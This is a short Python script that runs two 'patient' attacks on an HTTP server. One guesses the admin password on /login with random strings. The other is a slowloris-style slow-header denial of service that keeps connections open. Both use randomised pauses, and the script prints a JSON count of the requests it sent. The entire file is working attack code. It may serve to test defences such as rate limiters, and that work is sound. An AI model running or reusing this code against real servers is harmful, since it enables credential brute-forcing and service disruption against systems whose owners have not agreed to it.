# SPDX-License-Identifier: Apache-2.0
"""Attacks that take few packets and much patience, against an HTTP server; prints what came of it as one line of JSON.

password-guessing: POST /login with one password after the other, each connection for a few guesses; --pause ms between two guesses.
slow-http: holds --connections connections open and sends each one more header line every --pause ms, never an empty one.
"""

import argparse
import asyncio
import json
import random
import time

GUESSES_A_CONNECTION = 5
PATIENCE = 5.0  # seconds


async def connect(options):
    return await asyncio.wait_for(
        asyncio.open_connection(options.target, options.port, local_addr=(options.source, 0)), PATIENCE
    )


async def answered(reader):
    """Reads one answer with a body of known length."""
    length = 0
    while (line := await asyncio.wait_for(reader.readline(), PATIENCE)) not in (b"\r\n", b""):
        name, _, value = line.partition(b":")
        if name.lower() == b"content-length":
            length = int(value)
    await reader.readexactly(length)


async def guess(options, end):
    count = 0
    while time.monotonic() < end:
        reader, writer = await connect(options)
        for _ in range(GUESSES_A_CONNECTION):
            password = "".join(random.choices("abcdefghijklmnopqrstuvwxyz0123456789", k=random.randrange(6, 13)))
            body = f"user=admin&password={password}"
            writer.write(
                f"POST /login HTTP/1.1\r\nHost: {options.target}\r\nContent-Type: application/x-www-form-urlencoded\r\n"
                f"Content-Length: {len(body)}\r\n\r\n{body}".encode()
            )
            await answered(reader)
            count += 1
            await asyncio.sleep(options.pause / 1000 * random.uniform(0.7, 1.3))
        writer.close()
    return count


async def hold(options, end):
    count = 0
    while time.monotonic() < end:
        _, writer = await connect(options)
        try:
            writer.write(f"GET /bytes/10 HTTP/1.1\r\nHost: {options.target}\r\n".encode())
            while time.monotonic() < end:
                await asyncio.sleep(options.pause / 1000 * random.uniform(0.7, 1.3))
                writer.write(f"X-{random.randrange(10**6)}: {random.randrange(10**6)}\r\n".encode())
                await writer.drain()
                count += 1
        except OSError:
            pass  # The server had enough: another connection.
        finally:
            writer.close()
    return count


async def attack(options):
    end = time.monotonic() + options.seconds
    how = {"password-guessing": guess, "slow-http": hold}[options.kind]
    return sum(await asyncio.gather(*(how(options, end) for _ in range(options.connections))))


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("kind", choices=["password-guessing", "slow-http"])
    parser.add_argument("--source", required=True)
    parser.add_argument("--target", required=True)
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--connections", type=int, default=10)
    parser.add_argument("--pause", type=int, default=100, help="ms")
    parser.add_argument("--seconds", type=int, default=30)
    options = parser.parse_args()
    print(json.dumps({"kind": options.kind, "source": options.source, "requests": asyncio.run(attack(options))}))


if __name__ == "__main__":
    main()
